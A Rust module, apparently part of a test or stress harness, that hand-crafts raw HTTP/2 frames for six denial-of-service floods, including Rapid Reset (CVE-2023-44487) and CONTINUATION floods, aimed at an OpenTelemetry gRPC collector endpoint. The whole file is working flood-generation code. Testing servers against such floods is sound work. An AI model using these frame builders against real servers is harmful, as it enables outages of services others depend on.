//! Frames of HTTP/2 written by hand, for senders that no library would be.
//!
//! Only what floods need: no reading, no flow control, headers in plain literals.

/// What a flood is made of.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Flood {
    /// Calls that are begun and reset at once (CVE-2023-44487).
    RapidReset,
    /// Headers that never end (RUSTSEC-2024-0332).
    Continuation,
    /// Frames of data without data (RUSTSEC-2026-0258).
    EmptyData,
    /// Pings whose answers nobody reads.
    Ping,
    /// Settings whose answers nobody reads.
    Settings,
    /// Calls whose answers may never be sent.
    ClosedWindow,
}

pub(crate) const FLOODS: [Flood; 6] = [
    Flood::RapidReset,
    Flood::Continuation,
    Flood::EmptyData,
    Flood::Ping,
    Flood::Settings,
    Flood::ClosedWindow,
];

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Frames in one write.
const FRAMES: u32 = 200;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&len[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The head of a call, in the static table and in literals.
fn call() -> Vec<u8> {
    let literal = |name: &[u8], text: &str| {
        let len = u8::try_from(text.len()).unwrap();
        [name, &[len], text.as_bytes()].concat()
    };
    [
        // `:method: POST`, `:scheme: http`.
        vec![0x83, 0x86],
        literal(&[0x04], "/opentelemetry.proto.collector.trace.v1.TraceService/Export"),
        literal(&[0x01], "x"),
        literal(&[0x0F, 0x10], "application/grpc"),
        literal(&[0x00, 2, b't', b'e'], "trailers"),
    ]
    .concat()
}

/// What opens a connection of this flood.
pub(crate) fn opening(flood: Flood) -> Vec<u8> {
    let settings = match flood {
        // `SETTINGS_INITIAL_WINDOW_SIZE: 0`.
        Flood::ClosedWindow => vec![0, 4, 0, 0, 0, 0],
        _ => Vec::new(),
    };
    let begun = match flood {
        Flood::EmptyData => frame(HEADERS, END_HEADERS, 1, &call()),
        Flood::Continuation => frame(HEADERS, 0, 1, &call()),
        _ => Vec::new(),
    };
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), frame(SETTINGS, 0, 0, &settings), begun].concat()
}

/// The next frames of a flood; `round` counts from zero.
pub(crate) fn wave(flood: Flood, round: u32) -> Vec<u8> {
    let mut out = Vec::new();
    for number in 0..FRAMES {
        let stream = (round.wrapping_mul(FRAMES).wrapping_add(number)).wrapping_mul(2).wrapping_add(1);
        match flood {
            Flood::RapidReset => {
                out.extend(frame(HEADERS, END_HEADERS, stream, &call()));
                out.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
            }
            // One header more, of a name and a value that nobody knows.
            Flood::Continuation => out.extend(frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y'])),
            Flood::EmptyData => out.extend(frame(DATA, 0, 1, &[])),
            Flood::Ping => out.extend(frame(PING, 0, 0, &[7; 8])),
            Flood::Settings => out.extend(frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 9])),
            Flood::ClosedWindow => {
                out.extend(frame(HEADERS, END_HEADERS, stream, &call()));
                out.extend(frame(DATA, END_STREAM, stream, &[0, 0, 0, 0, 0]));
            }
        }
    }
    out
}
